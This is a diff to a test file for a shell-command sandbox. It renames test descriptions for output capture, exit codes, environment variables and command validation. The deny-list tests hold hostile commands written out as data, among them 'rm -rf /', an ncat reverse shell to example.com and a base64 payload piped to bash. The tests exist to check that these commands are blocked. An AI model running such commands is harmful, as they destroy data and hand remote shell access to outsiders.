@@ -34,7 +34,7 @@ output = { presented_chars = 100 }
       expect(await slow.result).toMatchObject({ stdout: 'slow\n' })
     })
 
-    it('gives stdout alone', async () => {
+    it('a result has stdout apart from stderr', async () => {
       expect(await bench.cordon.run("echo 'hello world'")).toMatchObject({
         exitCode: 0,
         stdout: 'hello world\n',
@@ -42,11 +42,11 @@ output = { presented_chars = 100 }
       })
     })
 
-    it('gives stderr alone', async () => {
+    it('a result has stderr apart from stdout', async () => {
       expect(await bench.cordon.run('echo error >&2')).toMatchObject({ exitCode: 0, stdout: '', stderr: 'error\n' })
     })
 
-    it('gives the exit code', async () => {
+    it("a result has the command's exit code", async () => {
       expect(await bench.cordon.run('exit 42')).toMatchObject({ exitCode: 42 })
     })
 
@@ -76,7 +76,7 @@ output = { presented_chars = 100 }
       }
     })
 
-    it('variables are injected', async () => {
+    it('variables of the options reach the command', async () => {
       expect(await bench.cordon.run('echo $TEST_VAR', { env: { TEST_VAR: 'test_value' } })).toMatchObject({
         stdout: 'test_value\n',
       })
@@ -107,9 +107,12 @@ output = { presented_chars = 100 }
   })
 
   describe('validation', () => {
-    it.each(['ls -la', 'git status', "echo 'hello'", 'rm file.txt', 'echo "rm -rf /"'])('lets %s through', (script) => {
-      expect(bench.cordon.check(script).verdict).toBe('allow')
-    })
+    it.each(['ls -la', 'git status', "echo 'hello'", 'rm file.txt', 'echo "rm -rf /"'])(
+      'validation lets %s through',
+      (script) => {
+        expect(bench.cordon.check(script).verdict).toBe('allow')
+      },
+    )
 
     it.each([
       'rm -rf /',
@@ -127,7 +130,7 @@ output = { presented_chars = 100 }
       'ncat -e /bin/bash example.com 4444',
       'echo cm0gLXJmIC8= | base64 -d | bash',
       'base64 -d payload|bash',
-    ])('blocks %s', async (script) => {
+    ])('validation blocks the command %s', async (script) => {
       const { verdict } = bench.cordon.check(script)
       expect(verdict).toBe('deny')
       const error = await refusal(bench.cordon.run(script))
